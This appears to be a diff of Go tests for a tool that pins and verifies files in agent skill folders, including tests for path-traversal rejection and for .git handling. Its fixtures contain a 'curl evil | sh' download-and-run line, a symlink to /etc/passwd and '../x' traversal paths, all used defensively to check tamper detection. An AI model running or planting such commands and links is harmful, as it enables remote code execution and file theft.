@@ -5,6 +5,7 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -170,7 +171,7 @@ func TestScanPinsWholeSkillFolders(t *testing.T) {
 		"tools/c/skill.md":             "lower-case name",
 		"tools/c/bin/tool":             "binary",
 		".git/config":                  "not the distribution",
-		"skills/a/.git":                "a worktree pointer",
+		"skills/a/.git":                "pinned: only the top .git is skipped",
 		"skills/a/agents/openai.yaml":  "policy: {}",
 		"skills/nested-not-skill/x.sh": "outside any skill folder",
 	})
@@ -178,7 +179,7 @@ func TestScanPinsWholeSkillFolders(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	want := "LICENSE,skills/README.md,skills/a/SKILL.md,skills/a/agents/openai.yaml,skills/a/manifest.json,skills/a/nested/b/SKILL.md,skills/a/scripts/run.sh,tools/c/bin/tool,tools/c/skill.md"
+	want := "LICENSE,skills/README.md,skills/a/.git,skills/a/SKILL.md,skills/a/agents/openai.yaml,skills/a/manifest.json,skills/a/nested/b/SKILL.md,skills/a/scripts/run.sh,tools/c/bin/tool,tools/c/skill.md"
 	if got := paths(tree.Files); got != want {
 		t.Errorf("got files %s; want %s", got, want)
 	}
@@ -311,5 +312,122 @@ func TestReadRefusesAFifo(t *testing.T) {
 		}
 	case <-time.After(10 * time.Second):
 		t.Fatal("Read blocked on a FIFO")
+	}
+}
+
+func TestReadRefusesMalformedFilePaths(t *testing.T) {
+	tests := []struct {
+		name string
+		path string
+	}{
+		{"absolute", "/x"},
+		{"root", "/"},
+		{"empty", ""},
+		{"dot", "."},
+		{"dot-dot", "../x"},
+		{"dot-dot alone", ".."},
+		{"not clean", "a/./b"},
+		{"trailing slash", "a/"},
+		{"double slash", "a//b"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			file := filepath.Join(t.TempDir(), "x.lock.json")
+			data := `{"commit":"abc","include":["README.md"],"files":[{"path":` + strconv.Quote(tt.path) + `,"sha256":"00","size":0}]}`
+			if err := os.WriteFile(file, []byte(data), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			if _, err := Read(file); !errors.Is(err, ErrBadPath) {
+				t.Errorf("got %v; want %v", err, ErrBadPath)
+			}
+		})
+	}
+}
+
+func TestUnderAnyTerminates(t *testing.T) {
+	tests := []struct {
+		name string
+		path string
+		want bool
+	}{
+		{"absolute", "/x", false},
+		{"root", "/", false},
+		{"empty", "", false},
+		{"relative", "a/b", false},
+		{"in a folder", "s/a/x", true},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			done := make(chan bool, 1)
+			go func() { done <- underAny(map[string]bool{"s/a": true}, tt.path) }()
+			select {
+			case got := <-done:
+				if got != tt.want {
+					t.Errorf("got %v; want %v", got, tt.want)
+				}
+			case <-time.After(5 * time.Second):
+				t.Fatal("underAny did not terminate")
+			}
+		})
+	}
+}
+
+// TestGitSkippedOnlyAtTheTop pins that only the checkout's own .git is left
+// out: a .git inside a skill folder is pinned like any file there, and a
+// symlink or a FIFO in it is refused.
+func TestGitSkippedOnlyAtTheTop(t *testing.T) {
+	base := map[string]string{"s/a/SKILL.md": "a", ".git/config": "[core]", ".git/HEAD": "ref"}
+	tests := []struct {
+		name      string
+		setup     func(t *testing.T, dir string)
+		wantExtra string
+		wantErr   error
+	}{
+		{"top-level .git changes", func(t *testing.T, dir string) {
+			writeTree(t, dir, map[string]string{".git/config": "[changed]", ".git/objects/x": "y"})
+		}, "", nil},
+		{"file in a skill's .git", func(t *testing.T, dir string) {
+			writeTree(t, dir, map[string]string{"s/a/.git/run.sh": "curl evil | sh"})
+		}, "s/a/.git/run.sh", nil},
+		{".git file in a skill folder", func(t *testing.T, dir string) {
+			writeTree(t, dir, map[string]string{"s/a/.git": "gitdir: /x"})
+		}, "s/a/.git", nil},
+		{"symlink in a skill's .git", func(t *testing.T, dir string) {
+			os.MkdirAll(filepath.Join(dir, "s", "a", ".git"), 0o755)
+			symlink(t, "/etc/passwd", filepath.Join(dir, "s", "a", ".git", "link"))
+		}, "", ErrSymlink},
+		{"fifo in a skill's .git", func(t *testing.T, dir string) {
+			os.MkdirAll(filepath.Join(dir, "s", "a", ".git"), 0o755)
+			fifo(t, filepath.Join(dir, "s", "a", ".git", "pipe"))
+		}, "", ErrNotRegular},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeTree(t, dir, base)
+			tree, err := Scan(dir, []string{"s/**"})
+			if err != nil {
+				t.Fatal(err)
+			}
+			l := &Lock{Include: []string{"s/**"}, Files: tree.Files}
+			tt.setup(t, dir)
+			done := make(chan struct{})
+			var r *Report
+			go func() { defer close(done); r, err = Verify(dir, l) }()
+			select {
+			case <-done:
+			case <-time.After(10 * time.Second):
+				t.Fatal("Verify blocked")
+			}
+			if tt.wantErr != nil || err != nil {
+				if !errors.Is(err, tt.wantErr) {
+					t.Fatalf("got %v; want %v", err, tt.wantErr)
+				}
+				return
+			}
+			if got := strings.Join(r.Extra, ","); got != tt.wantExtra {
+				t.Errorf("got extra %q; want %q", got, tt.wantExtra)
+			}
+		})
 	}
 }
